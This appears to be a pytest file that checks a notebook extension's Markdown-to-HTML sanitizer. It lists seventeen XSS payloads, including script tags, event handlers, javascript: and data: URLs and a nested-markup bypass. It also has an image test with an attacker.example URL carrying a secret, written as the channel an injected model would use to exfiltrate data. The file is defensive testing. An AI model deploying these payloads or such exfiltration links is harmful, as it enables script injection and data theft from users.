"""The model's Markdown as HTML: what it may contain, and the XSS payloads that must come out inert.

The browser half (tests/e2e/test_lab.py) runs the same payloads through a real %%zeph cell in JupyterLab and
Notebook 7 and checks that none executed; this half checks the HTML itself, payload by payload.
"""

from __future__ import annotations

import re

import pytest

from zeph_nb.notebook.render import markdown_html

# Each would set window.__zeph_xss (or call alert) if it ran. Shared with the browser test.
XSS = [
    "<script>window.__zeph_xss = 1</script>",
    '<img src=x onerror="window.__zeph_xss = 2">',
    '<svg onload="window.__zeph_xss = 3"></svg>',
    "[click me](javascript:window.__zeph_xss=4)",
    "[click me](JaVaScRiPt:window.__zeph_xss=5)",
    '<iframe srcdoc="<script>parent.__zeph_xss = 6</script>"></iframe>',
    '<a href="javascript:window.__zeph_xss=7">x</a>',
    '<details open ontoggle="window.__zeph_xss = 8">x</details>',
    '![x](x" onerror="window.__zeph_xss = 9)',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__zeph_xss=10></style></mglyph></table></mtext>"
    "</math>",
    '<form action="javascript:window.__zeph_xss=11"><button>go</button></form>',
    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX196ZXBoX3hzcz0xMjwvc2NyaXB0Pg==)",
    '<object data="javascript:window.__zeph_xss=13"></object>',
    "<style>body { background: url(javascript:window.__zeph_xss=14) }</style>",
    "`<script>window.__zeph_xss = 15</script>`",
    '<div style="background-image:url(javascript:alert(16))">styled</div>',
    '[link](https://example.org/ "title" onmouseover=window.__zeph_xss=17)',
]


@pytest.mark.parametrize("payload", XSS)
def test_payloads_come_out_inert(payload: str) -> None:
    out = markdown_html(f"Here you go:\n\n{payload}\n")
    tags = re.findall(r"<[^>]*>", out)  # real tags only: HTML in the text comes out escaped (&lt;…)
    assert {re.match(r"</?([a-z0-9]+)", tag).group(1) for tag in tags} <= {"p", "a", "code", "pre", "br"}, out  # type: ignore[union-attr]
    for tag in tags:
        assert not re.search(r"\son[a-z]+\s*=", tag), out  # no event handler
        assert not re.search(r"""href\s*=\s*["']?\s*(?:javascript|data|vbscript):""", tag, re.IGNORECASE), out
        assert "style=" not in tag and "src=" not in tag, out


def test_ordinary_markdown_keeps_its_shape() -> None:
    out = markdown_html(
        "# Result\n\n**3 files** changed, see [the docs](https://example.org/docs).\n\n"
        "| file | lines |\n|---|---|\n| a.py | 3 |\n\n```python\nprint('x < y')\n```\n\n- one\n- ~~two~~\n"
    )
    for piece in ("<h1>Result</h1>", "<strong>3 files</strong>", "<table>", "<td>a.py</td>", "<s>two</s>",
                  "print('x &lt; y')", "<li>one</li>"):  # fmt: skip
        assert piece in out, out
    assert '<a href="https://example.org/docs" rel="noopener noreferrer">the docs</a>' in out


def test_an_image_is_a_link_and_loads_nothing() -> None:
    # An image loads by itself: its URL is where an injected model would put what it wants sent out.
    out = markdown_html("![chart](https://attacker.example/pixel.png?d=secret)")
    assert "<img" not in out and 'href="https://attacker.example/pixel.png?d=secret"' in out


def test_the_approval_card_shows_a_writes_diff_escaped() -> None:
    from zeph_nb.gates.approval import ApprovalRequest
    from zeph_nb.notebook.transcript import ToolCard

    diff = "--- a/a.html\n+++ b/a.html\n-old\n+<script>x()</script>\n"
    request = ApprovalRequest(call_id="c", tool="write", params={"path": "a.html"}, subjects=("a.html",), rule="*",
                              reason="asked", preview=diff)  # fmt: skip
    card = ToolCard("write", {"path": "a.html"})
    card.ask(request, lambda choice: None)
    shown = card.ask_box.children[0].value
    assert "What changes:" in shown and '<span style="color:#cf222e">-old</span>' in shown
    assert "+&lt;script&gt;x()&lt;/script&gt;" in shown and "<script>" not in shown
